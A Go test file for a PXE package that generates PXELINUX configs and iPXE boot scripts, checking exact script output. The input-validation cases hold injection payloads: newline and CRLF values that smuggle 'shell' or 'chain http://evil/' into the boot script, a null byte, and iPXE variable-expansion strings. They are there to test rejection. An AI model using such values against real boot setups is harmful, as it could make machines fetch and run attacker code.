package pxe

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

func TestPxelinuxConfigAt(t *testing.T) {
	p := Paths{Kernel: "bundles/ab12/bzImage", Initramfs: "bundles/ab12/initramfs.cpio.gz"}
	got, err := PxelinuxConfigAt(p, "rw ip=dhcp")
	want := "DEFAULT rambox\nLABEL rambox\n  KERNEL bundles/ab12/bzImage\n  APPEND initrd=bundles/ab12/initramfs.cpio.gz rw ip=dhcp\n"
	if err != nil || got != want {
		t.Errorf("PxelinuxConfigAt(%q) = %q, %v, want %q", "rw ip=dhcp", got, err, want)
	}
}

func TestIPXEScript(t *testing.T) {
	p := Paths{Kernel: "http://10.0.0.1:8080/bundles/ab12/bzImage", Initramfs: "http://10.0.0.1:8080/bundles/ab12/initramfs.cpio.gz"}
	got, err := IPXEScript(p, `rw ip=dhcp foo="a b"`)
	want := "#!ipxe\nkernel http://10.0.0.1:8080/bundles/ab12/bzImage initrd=initramfs.cpio.gz rw ip=dhcp foo=\"a b\"\ninitrd http://10.0.0.1:8080/bundles/ab12/initramfs.cpio.gz\nboot\n"
	if err != nil || got != want {
		t.Errorf("IPXEScript(%q) = %q, %v, want %q", `rw ip=dhcp foo="a b"`, got, err, want)
	}
	for _, tc := range []struct {
		cmdline string
		want    error
	}{
		{"rw\nshell", ErrCmdlineControl},
		{"rw\x00", ErrCmdlineControl},
		{"rw\r\nchain http://evil/", ErrCmdlineControl},
		{"rw x=${net0/mac}", ErrCmdlineExpansion},
	} {
		got, err := IPXEScript(p, tc.cmdline)
		if !errors.Is(err, tc.want) || !strings.Contains(err.Error(), fmt.Sprintf("%q", tc.cmdline)) {
			t.Errorf("IPXEScript(%q) = %q, %v, want %v naming the command line", tc.cmdline, got, err, tc.want)
		}
	}
}

func TestIPXEUKIScript(t *testing.T) {
	p := Paths{Kernel: "http://10.0.0.1:8080/bundles/ab12/bzImage", Initramfs: "http://10.0.0.1:8080/bundles/ab12/initramfs.cpio.gz"}
	uki := "http://10.0.0.1:8080/bundles/ab12/rambox.efi"
	got, err := IPXEUKIScript(p, uki, "rw ip=dhcp")
	want := "#!ipxe\n" +
		"iseq ${platform} efi && goto uki ||\n" +
		"kernel http://10.0.0.1:8080/bundles/ab12/bzImage initrd=initramfs.cpio.gz rw ip=dhcp\n" +
		"initrd http://10.0.0.1:8080/bundles/ab12/initramfs.cpio.gz\n" +
		"boot\n" +
		":uki\n" +
		"chain http://10.0.0.1:8080/bundles/ab12/rambox.efi rw ip=dhcp\n"
	if err != nil || got != want {
		t.Errorf("IPXEUKIScript(%q) = %q, %v, want %q", "rw ip=dhcp", got, err, want)
	}
	for _, tc := range []struct {
		cmdline string
		want    error
	}{
		{"rw\nshell", ErrCmdlineControl},
		{"rw x=${platform}", ErrCmdlineExpansion},
	} {
		got, err := IPXEUKIScript(p, uki, tc.cmdline)
		if !errors.Is(err, tc.want) || !strings.Contains(err.Error(), fmt.Sprintf("%q", tc.cmdline)) {
			t.Errorf("IPXEUKIScript(%q) = %q, %v, want %v naming the command line", tc.cmdline, got, err, tc.want)
		}
	}
}
